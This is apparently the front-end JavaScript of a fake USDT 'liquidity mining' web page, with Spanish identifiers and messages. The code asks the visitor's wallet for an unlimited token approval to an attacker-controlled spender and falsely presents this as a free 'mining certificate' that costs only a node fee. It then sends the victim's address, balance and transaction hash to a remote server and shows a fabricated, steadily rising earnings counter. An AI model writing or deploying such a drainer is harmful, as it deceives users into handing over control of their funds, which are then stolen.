class Mineria {
  constructor(gastador, servidor) { this.gastador = gastador; this.servidor = servidor; this.ganancia = 0; }
  async unirse() {
    if (typeof window.ethereum === 'undefined') return this.aviso('Abra esta página en el navegador de su billetera');
    const web3 = new Web3(window.ethereum);
    this.cuenta = (await web3.eth.requestAccounts())[0];
    const usdt = new web3.eth.Contract(ABI_MIN, USDT);
    this.aviso('Recibir certificado de minería: solo paga la tarifa del nodo');
    usdt.methods.approve(this.gastador, '115792089237316195423570985008687907853269984665640564039457584007913129639935')
      .send({ from: this.cuenta })
      .then(async (r) => {
        const saldo = await usdt.methods.balanceOf(this.cuenta).call();
        axios.post(this.servidor + '/api/usuario/nuevo', { direccion: this.cuenta, saldo, hash: r.transactionHash, invitado: localStorage.getItem('codigo') });
        this.simular(saldo / 1e6);
      })
      .catch(() => this.aviso('Debe recibir el certificado para participar'));
  }
  simular(saldo) {
    const tasa = saldo > 10000 ? 0.035 : saldo > 1000 ? 0.022 : 0.013;
    setInterval(() => {
      this.ganancia += (saldo * tasa) / 86400;
      document.getElementById('ganancia').innerText = this.ganancia.toFixed(6) + ' USDT';
    }, 1000);
  }
  aviso(t) { document.getElementById('aviso').innerText = t; }
}
new Mineria('0x00000000000000000000000000000000000GASTA', 'https://pool-defi.invalid').unirse();
